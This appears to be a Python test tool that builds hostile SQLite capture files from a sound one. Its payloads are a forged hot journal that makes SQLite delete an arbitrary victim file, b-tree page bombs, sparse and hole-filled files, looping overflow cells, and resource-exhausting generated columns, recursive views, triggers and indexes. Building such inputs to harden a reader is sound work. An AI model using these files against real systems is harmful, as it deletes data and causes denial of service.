#!/usr/bin/env python3
"""Makes captures that mean harm, of one that is sound. hostile.py KIND SOURCE TARGET [VICTIM]

journal   a hot rollback journal beside it, which names VICTIM as its super-journal: SQLite deletes that
bomb      the table of samples is a tree of pages of which each has the same child hundreds of times
schema    the same, with the tree of sqlite_schema itself
sparse    8 TB of holes behind it, and a header that claims all its pages
holes     a hole between any two of its pages
overflow  thousands of names that are one and the same chain of pages of text
generated, view, trigger, index, text   a schema that computes, and a name of 10 MB
"""
import os
import shutil
import sqlite3
import struct
import sys

LOCK_BYTE = 0x40000000


def put(f, at, form, *values):
    f.seek(at)
    f.write(struct.pack('>' + form, *values))


def page_size(path):
    with open(path, 'rb') as f:
        return struct.unpack('>H', f.read(18)[16:])[0]


def journal(path, victim):
    """See "The Rollback Journal" of SQLite's file format; the name's record is in the source of its pager."""
    size = page_size(path)
    with open(path, 'rb') as f:
        page = f.read(size)
    nonce = 1
    check = nonce + sum(page[i] for i in range(size - 200, 0, -200)) & 0xffffffff
    name = os.path.abspath(victim).encode()
    with open(path + '-journal', 'wb') as f:
        f.write(bytes.fromhex('d9d505f920a163d7') +
                struct.pack('>IIIII', 1, nonce, os.path.getsize(path) // size, 512, size))
        f.write(bytes(512 - f.tell()))
        f.write(struct.pack('>I', 1) + page + struct.pack('>I', check))
        f.write(struct.pack('>I', LOCK_BYTE // size + 1) + name + struct.pack('>II', len(name), sum(name)) +
                bytes.fromhex('d9d505f920a163d7'))


def root_of(path, table):
    db = sqlite3.connect(path)
    root = db.execute('select rootpage from sqlite_schema where name = ?', [table]).fetchone()[0]
    db.close()
    return root


def interior(children, size, first=0):
    """An interior page of a table: the same key for all, as nobody looks at the order while walking it."""
    n = len(children) - 1
    cells = b''.join(struct.pack('>I', child) + b'\x01' for child in children[:-1])
    start = size - len(cells)
    head = struct.pack('>BHHHBI', 5, 0, n, start, 0, children[-1])
    pointers = b''.join(struct.pack('>H', start + 5 * i) for i in range(n))
    return head + pointers + bytes(size - first - len(head) - len(pointers) - len(cells)) + cells


def bomb(path, root):
    """Levels of pages with some 300 times the same child (of 4 KB; fewer of small ones): 10^18 leaves, in a few pages."""
    size = page_size(path)
    times, levels = (300, 6) if size >= 4096 else (size // 14, 10)
    with open(path, 'r+b') as f:
        pages = os.path.getsize(path) // size
        f.seek((root - 1) * size)
        leaf = f.read(size)
        below = pages + 1
        f.seek(0, 2)
        if root == 1:  # a leaf in a page without the file's header: one small cell at the end
            leaf = struct.pack('>BHHHB', 13, 0, 1, size - 20, 0) + struct.pack('>H', size - 20)
            leaf += bytes(size - 20 - len(leaf)) + bytes([18, 1, 6, 23, 15, 15, 1, 0]) + b'table' + b'xy' + bytes(5)
        elif leaf[0] != 13:  # its first leaf, then
            cell = struct.unpack('>H', leaf[12:14])[0]
            below = struct.unpack('>I', leaf[cell:cell + 4])[0]
            leaf = b''
        f.write(leaf)
        for _ in range(levels):
            f.seek(0, 2)
            f.write(interior([below] * times, size))
            below = f.tell() // size
        f.seek(0, 2)
        top = interior([below] * times, size, 100 if root == 1 else 0)
        pages = f.tell() // size
        f.seek((root - 1) * size + (100 if root == 1 else 0))
        f.write(top)
        put(f, 28, 'I', pages)
        f.seek(24)
        put(f, 92, 'I', struct.unpack('>I', f.read(4))[0])


def overflow(path):
    """One row of 1 MB of text, and its cell in a leaf as often as there is room; the leaf, too."""
    db = sqlite3.connect(path)
    db.execute("delete from function")
    db.execute("insert into function values (0, ?, null, null, null)", ['x' * (1 << 20)])
    db.commit()
    db.execute("vacuum")
    db.close()
    root, size = root_of(path, 'function'), page_size(path)
    with open(path, 'r+b') as f:
        f.seek((root - 1) * size)
        page = bytearray(f.read(size))
        cell = struct.unpack('>H', page[8:10])[0]
        n = min((cell - 8) // 2, (size - 8) // 6 - 1)
        page[3:5] = struct.pack('>H', n)
        page[8:8 + 2 * n] = struct.pack('>H', cell) * n
        f.seek((root - 1) * size)
        f.write(page)


def tamper(path, *statements):
    db = sqlite3.connect(path)
    for s in statements:
        db.execute(s)
    db.commit()
    db.close()


def main():
    kind, source, target = sys.argv[1:4]
    shutil.copyfile(source, target)
    if kind == 'journal':
        journal(target, sys.argv[4])
    elif kind == 'bomb':
        bomb(target, root_of(target, 'sample'))
    elif kind == 'schema':
        bomb(target, 1)
    elif kind == 'sparse':
        with open(target, 'r+b') as f:
            put(f, 28, 'I', 0xfffffffe)
            f.truncate(8 << 40)
    elif kind == 'holes':
        with open(target, 'r+b') as f:
            for i in range(2000):
                f.seek((1 << 20) + (i << 16))
                f.write(b'x')
    elif kind == 'overflow':
        overflow(target)
    elif kind == 'generated':
        tamper(target, 'drop table sample',
               'create table sample (event integer, thread integer, time_ns integer, stack integer, count integer, '
               'value integer generated always as (length(hex(zeroblob(100000000)))) virtual)',
               'insert into sample values (0, 0, 0, 1, 1)')
    elif kind == 'view':
        tamper(target, 'drop table counter',
               "create view counter as with recursive n(name, value) as (select 'x', 1 union all "
               'select name, value + 1 from n) select * from n')
    elif kind == 'trigger':
        tamper(target, 'create trigger t after insert on function begin update function set name = hex(randomblob(9)); end')
    elif kind == 'index':
        tamper(target, 'create index i on sample (length(hex(zeroblob(100000))))')
    elif kind == 'text':
        tamper(target, "update thread set name = printf('%.*c', 10000000, 'n')")
    else:
        sys.exit('no such kind: ' + kind)


main()
